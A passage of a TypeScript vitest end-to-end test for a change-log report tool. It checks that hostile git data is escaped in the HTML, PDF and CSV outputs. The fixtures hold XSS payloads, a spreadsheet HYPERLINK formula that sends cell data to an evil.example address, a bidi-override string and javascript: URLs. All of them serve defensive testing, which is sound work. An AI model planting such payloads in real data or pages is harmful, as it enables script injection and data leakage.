import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runDemo } from "../../src/cli/commands/demo.js";
import { collectGitRepo } from "../../src/collectors/git/collect.js";
import { loadExceptionsRegister } from "../../src/config/exceptions-register.js";
import type { ResolvedRepo } from "../../src/config/load.js";
import type { RepoRole } from "../../src/config/schema.js";
import { DEMO_PERIOD, PAYMENTS_IMAGE } from "../../src/demo/org.js";
import { GITHUB_WEB, type Person, RepoFactory } from "../../src/demo/repo-factory.js";
import type { Finding } from "../../src/evidence/finding.js";
import type { ChangeKind, UnresolvedIdentity } from "../../src/evidence/population.js";
import { silentLogger } from "../../src/log/logger.js";
import { parsePeriod } from "../../src/period.js";
import type { ChangeRow } from "../../src/reports/change-rows.js";
import { ExportWriter } from "../../src/reports/export-writer.js";
import { pageOf, writeHtmlExport } from "../../src/reports/html/export.js";
import { loadTemplates } from "../../src/reports/html/templates.js";
import { buildReport } from "../../src/reports/model.js";
import { renderReportPdf } from "../../src/reports/pdf/report-pdf.js";
import { ReportSpool } from "../../src/reports/spool.js";
import { REPORT_FILES, writeReport } from "../../src/reports/write.js";
import { type DB, openStore } from "../../src/store/db.js";
import { buildHeldReport, type HeldReport, held, memoryPopulations } from "../helpers/report.js";
import { tempDir } from "../helpers/tmp.js";

/*
 * End to end: real repositories built with RepoFactory, collected into a real store, rendered to
 * HTML, PDF, the change and finding populations (JSON, CSV) and the manifest, and read back (the
 * PDF with poppler's pdftotext / pdfinfo).
 */

// ---------------------------------------------------------------------------------------------
// Helpers

function tool(name: string, args: readonly string[]): string {
  try {
    return execFileSync(name, [...args], { encoding: "utf8", maxBuffer: 64 * 1024 * 1024 });
  } catch (e) {
    const code = (e as NodeJS.ErrnoException).code;
    if (code === "ENOENT") throw new Error(`${name} is missing: apt-get install -y poppler-utils`);
    throw e;
  }
}

const pdfText = (file: string): string => tool("pdftotext", ["-layout", "-enc", "UTF-8", file, "-"]);
const pdfRaw = (file: string): string => tool("pdftotext", ["-raw", "-enc", "UTF-8", file, "-"]);

function pdfPages(file: string): number {
  const m = /^Pages:\s+(\d+)$/m.exec(tool("pdfinfo", [file]));
  if (!m?.[1]) throw new Error(`pdfinfo gave no page count for ${file}`);
  return Number(m[1]);
}

/** Text with all whitespace removed: table cells wrap, so compare without line breaks. */
const squash = (s: string): string => s.replace(/\s+/g, "");

function repoConfig(name: string, dir: string, role: RepoRole = "app"): ResolvedRepo {
  return {
    name,
    source: dir,
    role,
    allBranches: false,
    protectedBranches: ["main"],
    location: { kind: "path", path: dir },
  };
}

function sha256(file: string): string {
  return createHash("sha256").update(readFileSync(file)).digest("hex");
}

/** The decoded value of an attribute in an HTML tag (handlebars escapes ' and = there). */
function decodeEntities(s: string): string {
  return s
    .replace(/&#x([0-9a-f]+);/gi, (_m, h: string) => String.fromCodePoint(Number.parseInt(h, 16)))
    .replace(/&#(\d+);/g, (_m, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");
}

/** RFC 4180 as csv-stringify writes it: quoted cells, doubled quotes, "\n" between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += ch;
  }
  if (cell !== "" || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** What a spreadsheet runs as a formula when a cell starts with it (csv-stringify's list). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** changes.json (SPEC §4): every change with every verdict. */
interface ChangesFile {
  period: { label: string; from: string; to: string; display: string };
  generatedAt: string;
  toolVersion: string;
  rules: string[];
  changes: ChangeRow[];
}

/** findings.json (SPEC §4): every verdict other than pass and n/a, flat. */
interface FindingsFile {
  period: { label: string; from: string; to: string; display: string };
  generatedAt: string;
  toolVersion: string;
  findings: Finding[];
  unresolvedIdentities: UnresolvedIdentity[];
  identityConflicts?: { email: string; claimedBy: string[] }[];
}

interface Manifest {
  tool: string;
  toolVersion: string;
  period: { label: string };
  generatedAt: string;
  ledgerHead: string | null;
  files: { file: string; sha256: string; bytes: number }[];
}

interface Written {
  report: HeldReport;
  dir: string;
  /** index.html. */
  html: string;
  /** Every other page of the HTML export (tables, changes, deployments, people), joined. */
  pages: string;
  /** The tables' data files, joined. */
  data: string;
  /** Every file under the report's folder, relative. */
  tree: string[];
  pdf: string;
  pdfText: string;
  /** changes.json's raw text: the population keeps raw values (bidi controls too). */
  changesText: string;
  changes: ChangesFile;
  changesCsv: string[][];
  findings: FindingsFile;
  findingsCsv: string[][];
  manifest: Manifest;
}

/** Every file under `dir`, relative, sorted. */
function treeOf(dir: string): string[] {
  return (readdirSync(dir, { recursive: true, withFileTypes: true }) as import("node:fs").Dirent[])
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
    .sort();
}

function readWritten(report: HeldReport, dir: string): Written {
  const read = (f: string): string => readFileSync(path.join(dir, f), "utf8");
  const pdf = path.join(dir, "report.pdf");
  const tree = treeOf(dir);
  return {
    report,
    dir,
    html: read("index.html"),
    pages: tree
      .filter((f) => f.endsWith(".html") && f !== "index.html")
      .map(read)
      .join("\n"),
    data: tree
      .filter((f) => f.startsWith("data/"))
      .map(read)
      .join("\n"),
    tree,
    pdf,
    pdfText: pdfText(pdf),
    changesText: read("changes.json"),
    changes: JSON.parse(read("changes.json")) as ChangesFile,
    changesCsv: parseCsv(read("changes.csv")),
    findings: JSON.parse(read("findings.json")) as FindingsFile,
    findingsCsv: parseCsv(read("findings.csv")),
    manifest: JSON.parse(read("manifest.json")) as Manifest,
  };
}

/** The rows of one of the export's tables, read from its data files in order. */
function tableRows(w: Written, table: string): (string | number)[][] {
  return w.tree
    .filter((f) => f.startsWith(`data/${table}-`))
    .flatMap((f) => {
      const text = readFileSync(path.join(w.dir, f), "utf8");
      const m = /^changeproofRows\("([a-z]+)",(\d+),(.*)\);\n$/s.exec(text);
      expect(m?.[1], f).toBe(table);
      return JSON.parse(m?.[3] ?? "[]") as (string | number)[][];
    });
}

/** A change's own page in the export. */
const changePage = (w: Written, id: string): string => readFileSync(path.join(w.dir, pageOf("change", id)), "utf8");

async function render(
  db: DB,
  periodSpec: string,
  configured: readonly string[],
  now: Date,
  outDir: string,
): Promise<Written> {
  const period = parsePeriod(periodSpec);
  const spool = ReportSpool.create(outDir);
  try {
    // As a config declaring the image CI builds from payments-api would (C12 traces to it).
    const model = buildReport(
      db,
      period,
      configured,
      now,
      spool,
      {},
      {
        people: [],
        exceptions: [],
        images: new Map([["acme/payments-api", [PAYMENTS_IMAGE]]]),
      },
    );
    const written = await writeReport({ model, populations: spool }, period, outDir, loadTemplates());
    expect(written.files).toEqual([...REPORT_FILES]);
    return readWritten(held(model, spool), written.dir);
  } finally {
    spool.dispose();
  }
}

/**
 * A title printed with no word broken: a column narrower than a word of its bold title would
 * split it ("Signatur" / "e"); wrapping between words is fine.
 */
function wholeWords(title: string): RegExp {
  const words = title.split(" ").map((w) => w.replace(/[.*+?^${}()|[\]\\]/g, "\\$&"));
  return new RegExp(`(^|\\s)${words.join("\\s+")}(\\s|$)`);
}

/** The text of each page (pdftotext ends every page with a form feed). */
function pagesOf(text: string): string[] {
  const pages = text.split("\f");
  if (pages.at(-1)?.trim() === "") pages.pop();
  return pages;
}

/** pdfinfo's page count equals the pages pdftotext reads, each footed "page N of M". */
function checkPageFooters(pdf: string, title: string, text: string): void {
  const count = pdfPages(pdf);
  const pages = pagesOf(text);
  expect(pages).toHaveLength(count);
  pages.forEach((t, i) => {
    expect(t).toContain(`${title} · page ${i + 1} of ${count}`);
  });
}

/**
 * The manifest names every file written beside it, with its SHA-256 and size, and nothing else:
 * SPEC §4's files and the HTML export's pages, data and assets.
 */
function checkManifest(w: Written): void {
  const m = w.manifest;
  expect(m.tool).toBe("changeproof");
  expect(m.toolVersion).toBe(w.report.toolVersion);
  expect(m.period.label).toBe(w.report.period.label);
  expect(m.generatedAt).toBe(w.report.generatedAt);
  expect(m.ledgerHead).toBe(w.report.coverage.ledger.head);
  expect(m.ledgerHead).toMatch(/^[0-9a-f]{64}$/);
  const listed = m.files.map((f) => f.file);
  expect(listed).toEqual(w.tree.filter((f) => f !== "manifest.json"));
  for (const f of REPORT_FILES.filter((x) => x !== "manifest.json")) expect(listed).toContain(f);
  for (const f of m.files) {
    const file = path.join(w.dir, f.file);
    expect(sha256(file), f.file).toBe(f.sha256);
    expect(readFileSync(file).length, f.file).toBe(f.bytes);
  }
  // One page per change, named by a hash of its id, and nothing else in the folder.
  for (const c of w.report.changes) expect(w.tree).toContain(pageOf("change", c.id));
  for (const f of w.tree) expect(f).toMatch(/^[a-z0-9][a-z0-9._-]*(\/[a-z0-9][a-z0-9._-]*)*$/);
}

/**
 * The populations agree with the report model and with each other: changes.json is the model's
 * rows, findings.json its findings, each CSV one record per row, and every change's exceptions
 * are exactly its findings.
 */
function checkPopulations(w: Written): void {
  const r = w.report;
  const header = { period: r.period, generatedAt: r.generatedAt, toolVersion: r.toolVersion };
  expect(w.changes).toEqual(JSON.parse(JSON.stringify({ ...header, rules: r.changeRules, changes: r.changes })));
  const { identityConflicts, ...findings } = w.findings;
  expect(findings).toEqual(
    JSON.parse(JSON.stringify({ ...header, findings: r.findings, unresolvedIdentities: r.unresolved })),
  );
  // Emails two parties claim, beside the identities that resolve to nobody, when written there.
  expect(identityConflicts).toEqual(r.identityConflicts);
  expect(r.totals.changes).toBe(r.changes.length);
  expect(r.totals.findings).toBe(r.findings.length);
  expect(r.branches.flatMap((b) => b.rows)).toEqual(r.changes);
  expect(r.branches.map((b) => b.changes)).toEqual(r.branches.map((b) => b.rows.length));
  for (const c of r.changes) {
    expect(c.verdicts.map((v) => v.rule)).toEqual(r.changeRules);
    // The register's own findings (an overdue review) are about the change, not its verdicts.
    const own = r.findings.filter((f) => f.subject.kind === "change" && f.subject.id === c.id && f.rule !== "register");
    expect(c.exceptions).toEqual(own.map((f) => `${f.rule} ${f.verdict}`));
  }

  const [head, ...rows] = w.changesCsv;
  expect(head).toEqual([
    "id",
    "repo",
    "branch",
    "also_on",
    "kind",
    "landed_at",
    "title",
    "author",
    "merged_by",
    "commits",
    "dropped_at",
    ...r.changeRules,
  ]);
  expect(rows.map((x) => x[0])).toEqual(r.changes.map((c) => c.id));
  const [fhead, ...frows] = w.findingsCsv;
  expect(fhead?.slice(0, 4)).toEqual(["rule", "verdict", "subject_kind", "subject"]);
  expect(frows.map((x) => `${x[0]} ${x[1]} ${x[3]}`)).toEqual(
    r.findings.map((f) => `${f.rule} ${f.verdict} ${f.subject.id}`),
  );
  // No cell a spreadsheet would run: titles, names and reasons come from git and GitHub.
  for (const cell of [...w.changesCsv, ...w.findingsCsv].flat()) expect(cell).not.toMatch(FORMULA_START);
}

// ---------------------------------------------------------------------------------------------
// The hostile repository

const SCRIPT = "<script>alert(1)</script>";
const IMG = '"><img src=x onerror=alert(1)>';
const CTOR = "{{constructor}}";
const RLO = "\u202E";
const CJK = "山田太郎";
const CJK2 = "张伟";
const CYRILLIC = "Евгения Иванова";
const EMOJI = "🦄🚀";
const LONG_SUBJECT = `Long subject ${"lorem ipsum dolor sit amet ".repeat(80)}`.slice(0, 2000);
const FORMULA = '=HYPERLINK("mailto:leak@evil.example?body="&A1,"Open the release notes")';
const TEMPLATE_SUBJECT = `Template ${CTOR} and {{#each this}}x{{/each}} (#7)`;
const MERGE_SUBJECT = `Merge pull request #12 from evil/${SCRIPT}`;
const CRAFTED_SUBJECT = "Crafted object with raw HTML identities";

const alice: Person = { name: "Alice Example", email: "alice@example.com" };
const cjkPerson: Person = { name: CJK, email: "taro@example.jp" };
const cjkPerson2: Person = { name: CJK2, email: "wei@example.cn" };
const cyrPerson: Person = { name: CYRILLIC, email: "evgenia@example.ru" };
const rtlPerson: Person = { name: `Mallory ${RLO}gnp.exe`, email: "mallory@example.com" };
const ctorPerson: Person = { name: `${CTOR} ${EMOJI} Builder`, email: `${CTOR}@example.com` };
const formulaPerson: Person = { name: "@SUM(1+1)", email: "sum@evil.example" };

/** A commit identity as every output names it ("Name <email>"). */
const ident = (p: Person): string => `${p.name} <${p.email}>`;

const PERIOD = "2026Q3";
const REPO = "evil/hostile";
const d = (iso: string): Date => new Date(iso);

/**
 * git strips "<" and ">" from identities it writes itself, but a commit object can hold any
 * bytes (other tools, hand-made objects): write one with hostile identities directly.
 */
function craftCommit(repo: RepoFactory, author: string, committer: string, message: string, at: Date): string {
  const sec = Math.floor(at.getTime() / 1000);
  const tree = repo.git(["rev-parse", "HEAD^{tree}"]);
  const parent = repo.head();
  const body = `tree ${tree}\nparent ${parent}\nauthor ${author} ${sec} +0000\ncommitter ${committer} ${sec} +0000\n\n${message}\n`;
  const sha = repo.git(["hash-object", "-t", "commit", "-w", "--literally", "--stdin"], {}, body);
  repo.forceMove("main", sha);
  return sha;
}

interface HostileRepo {
  repo: RepoFactory;
  /** First-parent commits of main in the period, oldest first. */
  inPeriod: string[];
  /** The pull request's merge commit (two parents) on main. */
  merge: string;
}

const IN_PERIOD = 54;

function buildHostileRepo(dir: string): HostileRepo {
  const repo = RepoFactory.init(dir, { author: alice, start: d("2026-06-20T09:00:00Z") });
  repo.commit("Initial commit before the period", { files: { "README.md": "# hostile\n" } });

  repo.commit(`Add ${SCRIPT} to the page`, { author: alice, at: d("2026-07-01T10:00:00Z"), files: { "a.txt": "1" } });
  repo.commit(`Fix ${IMG} rendering`, { author: cyrPerson, at: d("2026-07-02T10:00:00Z"), files: { "a.txt": "2" } });
  repo.commit(TEMPLATE_SUBJECT, { author: ctorPerson, at: d("2026-07-03T10:00:00Z") });
  repo.commit(`Harmless ${RLO}txt.exe subject`, { author: rtlPerson, at: d("2026-07-04T10:00:00Z") });
  repo.commit(`${EMOJI} Deploy ${CJK2} ${CYRILLIC}\n\nCo-authored-by: ${SCRIPT} <co@evil.example>`, {
    author: cjkPerson,
    at: d("2026-07-05T10:00:00Z"),
  });
  repo.commit(LONG_SUBJECT, { author: cjkPerson2, at: d("2026-07-06T10:00:00Z") });
  craftCommit(
    repo,
    `${SCRIPT} <script@evil.example>`,
    `${IMG} <img@evil.example>`,
    CRAFTED_SUBJECT,
    d("2026-07-07T10:00:00Z"),
  );
  // CSV injection: a subject and an author name a spreadsheet would run as formulas.
  repo.commit(FORMULA, { author: formulaPerson, at: d("2026-07-07T12:00:00Z") });

  // A pull request merged with a merge commit, its branch named with markup.
  repo.checkout("feature/x", { create: true });
  repo.commit("Feature work", { at: d("2026-07-08T10:00:00Z"), files: { "b.txt": "1" } });
  repo.checkout("main");
  const merge = repo.mergeCommit("feature/x", MERGE_SUBJECT, { author: alice, at: d("2026-07-09T10:00:00Z") });

  // Enough ordinary changes to need several pages.
  for (let i = 0; i < 45; i++) {
    repo.commit(`Routine change ${i} by ${i % 2 ? CJK : CYRILLIC}`, {
      author: i % 2 ? cjkPerson : cyrPerson,
      at: new Date(Date.parse("2026-08-01T00:00:00Z") + i * 86400_000),
    });
  }
  // After the period: must not be in the population.
  repo.commit("After the period", { at: d("2026-10-05T10:00:00Z") });

  const from = Date.parse("2026-07-01T00:00:00Z") / 1000;
  const to = Date.parse("2026-10-01T00:00:00Z") / 1000;
  const inPeriod = repo
    .git(["log", "--first-parent", "--reverse", "--format=%H %ct", "main"])
    .split("\n")
    .map((l) => l.split(" "))
    .filter(([, ct]) => Number(ct) >= from && Number(ct) < to)
    .map(([sha]) => sha ?? "");
  if (inPeriod.length !== IN_PERIOD)
    throw new Error(`expected ${IN_PERIOD} commits in the period, built ${inPeriod.length}`);
  if (repo.git(["rev-list", "--parents", "-n", "1", merge]).split(" ").length !== 3) {
    throw new Error("the pull request's merge commit should have two parents");
  }
  return { repo, inPeriod, merge };
}

/** The one gap a store without GitHub data has: no push-like commit can be told from a squash or rebase merge. */
const cannotBeJudged = (n: number): string =>
  `${n} changes in ${REPO} cannot be judged: GitHub's data on them is missing (GitHub not collected for the repository, or not since they landed), so their verdicts are blocked`;
const NEVER_COLLECTED = "evil/never-collected: git history was never collected successfully";

const byTitle = (w: Written, title: string): ChangeRow => {
  const c = w.changes.changes.find((x) => x.title === title);
  if (!c) throw new Error(`no change titled ${title.slice(0, 60)}`);
  return c;
};

describe("change-log report on hostile git data", () => {
  const root = tempDir("changeproof-report-");
  let hostile: HostileRepo;
  let db: DB;
  /** Git only: every change of the period is unknown, so the cover has exactly one gap. */
  let gitOnly: Written;
  /** The same, with a configured repository never collected: a second gap. */
  let withGap: Written;
  /** A period in which nothing landed, after a collection that covers it: no gap at all. */
  let quiet: Written;
  let afterRewrite: Written;
  let rewrite: { oldTip: string; newTip: string; dropped: string[] };
  const NOW = d("2026-10-02T00:00:00Z");

  beforeAll(async () => {
    hostile = buildHostileRepo(path.join(root, "repos", "hostile"));
    db = openStore(path.join(root, "store.db"));
    const cfg = repoConfig(REPO, hostile.repo.dir);
    const opts = (iso: string) => ({ cacheDir: path.join(root, "cache"), log: silentLogger, now: () => d(iso) });
    await collectGitRepo(db, cfg, opts("2026-10-01T06:00:00Z"));
    gitOnly = await render(db, PERIOD, [REPO], NOW, path.join(root, "out-git-only"));
    withGap = await render(db, PERIOD, [REPO, "evil/never-collected"], NOW, path.join(root, "out-gap"));
    quiet = await render(db, "2026-05", [REPO], NOW, path.join(root, "out-quiet"));

    // Someone force-pushes main: the last two September commits are replaced by another one,
    // dated inside the period.
    const oldTip = hostile.repo.head("main");
    const dropped = hostile.inPeriod.slice(-2);
    const base = hostile.repo.head(`${dropped[0]}~1`);
    hostile.repo.forceMove("main", base);
    hostile.repo.commit("Replacement for the dropped changes", { at: d("2026-09-14T12:00:00Z") });
    rewrite = { oldTip, newTip: hostile.repo.head("main"), dropped };
    await collectGitRepo(db, cfg, opts("2026-10-01T07:00:00Z"));
    afterRewrite = await render(db, PERIOD, [REPO], NOW, path.join(root, "out-rewrite"));
  });
  afterAll(() => db?.close());

  const all = (): Written[] => [gitOnly, withGap, quiet, afterRewrite];

  describe("HTML export", () => {
    /** The one script a page may load: the export's own table script. */
    const OWN_SCRIPT = /<script src="(\.\.\/)?assets\/table\.js"><\/script>/g;
    const exported = (w: Written): string => `${w.html}\n${w.pages}`;

    it("escapes markup from names, emails and subjects on every page", () => {
      for (const w of [gitOnly, withGap, afterRewrite]) {
        const all = exported(w).replace(OWN_SCRIPT, "");
        expect(all).not.toMatch(/<script/i);
        expect(all).not.toMatch(/<img/i);
        expect(all).not.toMatch(/onerror=/i);
        expect(w.pages).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
        expect(w.pages).toContain("&quot;&gt;&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;");
      }
      const page = (title: string): string => changePage(gitOnly, byTitle(gitOnly, title).id);
      // Each hostile value appears where it came from: the subject, the crafted author and
      // committer (who committed the push), the merge subject.
      expect(page(`Add ${SCRIPT} to the page`)).toContain(
        '<p class="title long">Add &lt;script&gt;alert(1)&lt;/script&gt; to the page</p>',
      );
      const crafted = page(CRAFTED_SUBJECT);
      expect(crafted).toContain(
        "<tr><th>Author</th><td>&lt;script&gt;alert(1)&lt;/script&gt; &lt;script@evil.example&gt;</td></tr>",
      );
      expect(crafted).toContain(
        "<tr><th>Merged by (or pushed by)</th><td>&quot;&gt;&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt; &lt;img@evil.example&gt;</td></tr>",
      );
      expect(page(MERGE_SUBJECT)).toContain(
        '<p class="title long">Merge pull request #12 from evil/&lt;script&gt;alert(1)&lt;/script&gt;</p>',
      );
      // The co-author trailer is shown where co-authors are: the identities that resolve to
      // nobody (with the change it touches) and C11's reason on the change's page.
      const coAuthored = byTitle(gitOnly, `${EMOJI} Deploy ${CJK2} ${CYRILLIC}`);
      expect(gitOnly.html).toContain(
        `<tr><td>&lt;script&gt;alert(1)&lt;/script&gt; &lt;co@evil.example&gt;</td><td>${coAuthored.id}</td></tr>`,
      );
      expect(changePage(gitOnly, coAuthored.id)).toContain(
        "by unknown author &lt;script&gt;alert(1)&lt;/script&gt; &lt;co@evil.example&gt;",
      );
    });

    it("shows template syntax from git literally instead of evaluating it", () => {
      const page = changePage(gitOnly, byTitle(gitOnly, TEMPLATE_SUBJECT).id);
      expect(page).toContain(`<p class="title long">${TEMPLATE_SUBJECT}</p>`);
      expect(page).toContain(`<tr><th>Author</th><td>${CTOR} ${EMOJI} Builder &lt;${CTOR}@example.com&gt;</td></tr>`);
      expect(exported(gitOnly)).not.toContain("function Object()");
      expect(exported(gitOnly)).not.toContain("[native code]");
    });

    it("keeps non-Latin names, emoji, the long subject and a formula-like subject intact", () => {
      const author = (title: string): string =>
        /<tr><th>Author<\/th><td>(.*?)<\/td><\/tr>/.exec(changePage(gitOnly, byTitle(gitOnly, title).id))?.[1] ?? "";
      expect(author(`Routine change 1 by ${CJK}`)).toBe(`${CJK} &lt;taro@example.jp&gt;`);
      expect(author(LONG_SUBJECT.trim())).toBe(`${CJK2} &lt;wei@example.cn&gt;`);
      expect(author(`Routine change 0 by ${CYRILLIC}`)).toBe(`${CYRILLIC} &lt;evgenia@example.ru&gt;`);
      const deploy = byTitle(gitOnly, `${EMOJI} Deploy ${CJK2} ${CYRILLIC}`);
      expect(changePage(gitOnly, deploy.id)).toContain(`<p class="title long">${EMOJI} Deploy ${CJK2} ${CYRILLIC}</p>`);
      // The long subject whole on its page; cut in the table's data, which says how much is left.
      const long = byTitle(gitOnly, LONG_SUBJECT.trim());
      expect(changePage(gitOnly, long.id)).toContain(`<p class="title long">${LONG_SUBJECT.trim()}</p>`);
      expect(gitOnly.data).toContain(
        JSON.stringify(`${long.title.slice(0, 200)}… [${long.title.length - 200} more]`).slice(1, -1),
      );
      // A formula is only a spreadsheet's problem: the page shows it as written (escaped).
      expect(decodeEntities(changePage(gitOnly, byTitle(gitOnly, FORMULA).id))).toContain(
        `<p class="title long">${FORMULA}</p>`,
      );
    });

    it("has a strict CSP on every page, allowing only the export's own stylesheet and script", () => {
      for (const w of all()) {
        const pages = [w.html, ...w.pages.split("<!doctype html>").filter((p) => p.trim() !== "")];
        expect(pages.length).toBeGreaterThan(4);
        for (const page of pages) {
          const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(page);
          const csp = decodeEntities(meta?.[1] ?? "");
          const directives = csp.split(";").map((x) => x.trim());
          expect(directives).toContain("default-src 'none'");
          expect(directives).toContain("style-src 'self'");
          expect(directives).toContain("script-src 'self'");
          expect(directives).toContain("connect-src 'none'");
          expect(directives).toContain("base-uri 'none'");
          expect(directives).toContain("form-action 'none'");
          expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
          // No inline style or script the CSP would refuse, no style attribute.
          expect(page).not.toMatch(/<style/i);
          expect(page.replace(OWN_SCRIPT, "")).not.toMatch(/<script/i);
          expect(page).not.toMatch(/\sstyle=/i);
        }
      }
    });

    it("references nothing outside the export but GitHub's own pages, without a referrer", () => {
      const own =
        /^(\.\.\/)?([a-z0-9][a-z0-9._-]*\/)*[a-z0-9][a-z0-9._-]*\.(html|csv|json|pdf|css|js)(#[a-z]+(=[^"]*)?)?$/;
      for (const w of all()) {
        expect(w.html).not.toMatch(/https?:\/\//i);
        for (const [tag, , attr, value] of exported(w).matchAll(
          /<([a-z]+)[^>]*?\s(src|href|action|srcset)="([^"]*)"[^>]*>/g,
        )) {
          if (value === "data:,") {
            // The empty icon: no favicon request to a folder or a bucket that has none.
            expect(tag).toContain('rel="icon"');
          } else if (value?.startsWith("https://github.com/")) {
            expect(attr).toBe("href");
            expect(tag).toContain('rel="noreferrer"');
          } else {
            expect(value, tag).toMatch(own);
          }
        }
        const css = readFileSync(path.join(w.dir, "assets", "report.css"), "utf8");
        expect(css).not.toMatch(/url\(|@import/i);
      }
    });

    // A change's url comes from GitHub's data: only a web address becomes a link.
    it("links a change only to a web address, never to javascript: or data:", () => {
      const rows = structuredClone(gitOnly.report.changes);
      const [a, b, c] = rows;
      if (!a || !b || !c) throw new Error("fewer than three changes");
      a.url = "javascript:alert(document.domain)";
      b.url = "data:text/html,<script>alert(1)</script>";
      c.url = "https://github.com/evil/hostile/pull/1";
      const dir = path.join(root, "links");
      writeHtmlExport({
        model: gitOnly.report.model,
        populations: memoryPopulations(rows, gitOnly.report.findings),
        templates: loadTemplates(),
        out: new ExportWriter(dir),
      });
      const page = (id: string): string => readFileSync(path.join(dir, pageOf("change", id)), "utf8");
      for (const x of [a, b]) {
        expect(page(x.id)).not.toMatch(/javascript:/i);
        expect(page(x.id)).not.toMatch(/data:text/i);
        expect(page(x.id)).not.toMatch(/<a [^>]*href="[a-z]+:/i);
      }
      expect(page(c.id)).toContain('<a href="https://github.com/evil/hostile/pull/1" rel="noreferrer">');
    });

    it("says 'No gaps' only when there is none, and lists every gap otherwise, flagged on every page", () => {
      expect(quiet.report.coverage.gaps).toEqual([]);
      expect(quiet.report.totals.changes).toBe(0);
      expect(quiet.html).toContain("<strong>No gaps:</strong>");
      expect(exported(quiet)).not.toContain("Evidence is incomplete");

      // Without GitHub's data no change can be judged: that is a gap, and the only one.
      expect(gitOnly.report.coverage.gaps).toEqual([cannotBeJudged(IN_PERIOD)]);
      expect(gitOnly.html).toContain("<h2>Evidence is incomplete</h2>");
      expect(gitOnly.html).toContain(`<ul><li>${cannotBeJudged(IN_PERIOD).replace("'", "&#x27;")}</li></ul>`);
      expect(gitOnly.html).not.toContain("No gaps");
      // Every page of an incomplete export says so and links to the gaps.
      const banners = gitOnly.pages.match(/<a href="(\.\.\/)?index\.html#gaps">Evidence is incomplete<\/a>: 1 gap/g);
      expect(banners).toHaveLength(gitOnly.pages.split("<!doctype html>").length - 1);

      expect(withGap.report.coverage.gaps).toEqual([NEVER_COLLECTED, cannotBeJudged(IN_PERIOD)]);
      expect(withGap.html).toContain("<h2>Evidence is incomplete</h2>");
      expect(withGap.html).toContain(`<li>${NEVER_COLLECTED}</li>`);
      expect(withGap.html).not.toContain("No gaps");
    });

    // Trojan Source (CVE-2021-42574): a U+202E in an author name or subject reverses how the rest
    // of its table cell is displayed (e.g. the email next to the name). Evidence must show what git
    // holds: bidi controls are shown as visible tokens, and cells are isolated besides.
    it("cannot be visually reordered by a bidi override in git data", () => {
      for (const w of [gitOnly, afterRewrite]) expect(`${exported(w)}${w.data}`.includes(RLO)).toBe(false);
      const page = changePage(gitOnly, byTitle(gitOnly, `Harmless ${RLO}txt.exe subject`).id);
      expect(page).toContain("Harmless ⟨U+202E⟩txt.exe subject");
      expect(page).toContain("Mallory ⟨U+202E⟩gnp.exe &lt;mallory@example.com&gt;");
      expect(gitOnly.data).toContain("Mallory ⟨U+202E⟩gnp.exe <mallory@example.com>");
      expect(readFileSync(path.join(gitOnly.dir, "assets", "report.css"), "utf8")).toMatch(/unicode-bidi:\s*isolate/);
      expect(gitOnly.pdfText.includes(RLO)).toBe(false);
      // The populations keep the raw value.
      expect(gitOnly.changesText).toContain(`Harmless ${RLO}txt.exe subject`);
      expect(byTitle(gitOnly, `Harmless ${RLO}txt.exe subject`).author).toBe(ident(rtlPerson));
    });
  });

  describe("PDF", () => {
    it("shows the period, the repository and non-Latin names", () => {
      const text = gitOnly.pdfText;
      expect(text).toContain("Change log 2026Q3");
      expect(text).toContain("Period: 2026Q3: 1 Jul 2026 – 30 Sep 2026 (UTC)");
      expect(text).toContain(REPO);
      expect(text).toContain(CYRILLIC);
      expect(squash(text)).toContain(squash(SCRIPT));
      expect(squash(text)).toContain(squash(IMG));
    });

    // DejaVu Sans has no CJK glyphs: such cells are set in Noto Sans SC, and what no shipped font
    // has (emoji) is printed as a visible code point instead of an empty box.
    it("shows CJK names, and code points for what no font has", () => {
      expect(gitOnly.pdfText).toContain(CJK);
      expect(gitOnly.pdfText).toContain(CJK2);
      expect(gitOnly.pdfText).toContain("[U+1F984]");
    });

    it("says 'Evidence is complete' when there is no gap and 'Evidence is incomplete' with each gap on the cover", () => {
      expect(quiet.pdfText.split("\f")[0]).toContain("Evidence is complete");
      expect(quiet.pdfText).not.toContain("Evidence is incomplete");

      for (const [w, gaps] of [
        [gitOnly, [cannotBeJudged(IN_PERIOD)]],
        [withGap, [NEVER_COLLECTED, cannotBeJudged(IN_PERIOD)]],
      ] as const) {
        const raw = pdfRaw(w.pdf);
        expect(raw).not.toContain("Evidence is complete");
        // On the cover, i.e. the first page.
        const cover = raw.split("\f")[0] ?? "";
        expect(cover).toContain("Evidence is incomplete");
        expect(squash(cover)).toContain(squash(gaps.map((g) => `• ${g}`).join("")));
      }
      expect(squash(pdfRaw(gitOnly.pdf))).not.toContain(squash(NEVER_COLLECTED));
    });

    it("numbers every page 'page N of M' with M the real page count", () => {
      expect(pdfPages(gitOnly.pdf)).toBeGreaterThan(2);
      for (const w of all()) checkPageFooters(w.pdf, w.report.title, w.pdfText);
    });

    // Layout: a column narrower than its bold title would wrap it ("Signatur" / "e").
    it("prints every column title whole", () => {
      // Each table's header row, its cells in drawing order: a wrapped title's words stay in order.
      const raw = pdfRaw(gitOnly.pdf);
      for (const row of [
        ["Repository", "Last successful collection", "Latest run", "Runs started in the period"],
        ["Rule", "What it checks", "Verdicts (subjects judged)"],
